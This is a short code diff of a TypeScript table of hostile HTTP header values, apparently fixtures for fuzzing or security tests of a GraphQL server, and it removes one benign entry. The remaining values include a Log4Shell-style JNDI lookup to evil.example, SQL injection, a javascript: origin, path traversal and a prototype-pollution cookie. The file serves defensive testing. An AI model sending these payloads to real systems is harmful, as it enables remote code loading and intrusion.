@@ -81,7 +81,6 @@ export const HEADERS: Readonly<Record<string, readonly string[]>> = {
   origin: ['null', 'https://evil.example', 'javascript:alert(1)', 'x'.repeat(3_000)],
   'x-forwarded-for': ['127.0.0.1', '::1', "1.2.3.4, ' OR 1=1", 'x'.repeat(2_000)],
   'x-request-id': ['../../log', '$'.concat('{jndi:ldap://evil.example/a}'), 'x'.repeat(2_000)],
-  'atlas-cost': ['1', '0', 'true', '[]'],
   'if-none-match': ['*', '"x"', 'W/', 'x'.repeat(2_000)],
   'apollo-require-preflight': ['1'],
   cookie: ['__proto__=1; a=b; =;'],
